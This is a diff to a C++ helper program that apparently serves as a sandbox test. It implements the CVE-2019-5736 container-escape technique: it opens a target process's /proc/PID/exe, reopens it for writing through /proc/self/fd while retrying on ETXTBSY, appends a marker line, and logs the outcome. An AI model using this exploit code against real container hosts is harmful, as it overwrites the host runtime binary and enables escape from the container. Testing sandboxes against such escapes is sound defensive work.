@@ -11,8 +11,9 @@
 //                       (CVE-2019-5736, in a container with CAP_SYS_PTRACE) wait for a pid in the file TARGET,
 //                       open /proc/PID/exe (O_PATH) and append "grabbed DEV INO" to REPORT; then reopen that
 //                       file for writing through /proc/self/fd, retrying while a process still executes it
-//                       (ETXTBSY), and append a marker line to it. Ends REPORT with "wrote", "write-failed
-//                       ERRNO", "refused ERRNO" or "busy" (still executed after 30 s)
+//                       (ETXTBSY), and append a marker line to it. Ends REPORT with "grab-failed ERRNO",
+//                       "wrote", "write-failed ERRNO", "refused ERRNO" or "busy" (still executed after 30 s),
+//                       then waits to be killed (as an init, it keeps its pid namespace alive)
 #include <dirent.h>
 #include <fcntl.h>
 #include <sys/prctl.h>
@@ -149,23 +150,15 @@ static void say(const char* report, const char* fmt, long a, long b = 0) {
   std::fclose(f);
 }
 
-static int exe_hijack(const char* target, const char* report) {
-  long pid = 0;
-  for (int i = 0; i < 6000 && pid <= 0; i++) {
-    if (FILE* f = std::fopen(target, "r")) {
-      if (std::fscanf(f, "%ld", &pid) != 1) pid = 0;
-      std::fclose(f);
-    }
-    if (pid <= 0) usleep(10000);
-  }
-  if (pid <= 0) return 1;
+// The attempt itself; exe_hijack reports and then waits.
+static void hijack(long pid, const char* report) {
   char path[64];
   std::snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
   int fd = open(path, O_PATH | O_CLOEXEC);
   struct stat st;
   if (fd < 0 || fstat(fd, &st) < 0) {
     say(report, "grab-failed %ld\n", errno);
-    return 1;
+    return;
   }
   say(report, "grabbed %ld %ld\n", static_cast<long>(st.st_dev), static_cast<long>(st.st_ino));
   std::snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
@@ -177,16 +170,29 @@ static int exe_hijack(const char* target, const char* report) {
         say(report, "wrote\n", 0);
       else
         say(report, "write-failed %ld\n", errno);
-      return 0;
+      return;
     }
     if (errno != ETXTBSY) {
       say(report, "refused %ld\n", errno);
-      return 0;
+      return;
     }
     usleep(10000);
   }
   say(report, "busy\n", 0);
-  return 0;
+}
+
+static int exe_hijack(const char* target, const char* report) {
+  long pid = 0;
+  for (int i = 0; i < 6000 && pid <= 0; i++) {
+    if (FILE* f = std::fopen(target, "r")) {
+      if (std::fscanf(f, "%ld", &pid) != 1) pid = 0;
+      std::fclose(f);
+    }
+    if (pid <= 0) usleep(10000);
+  }
+  if (pid <= 0) return 1;
+  hijack(pid, report);
+  for (;;) pause();
 }
 
 int main(int argc, char** argv) {
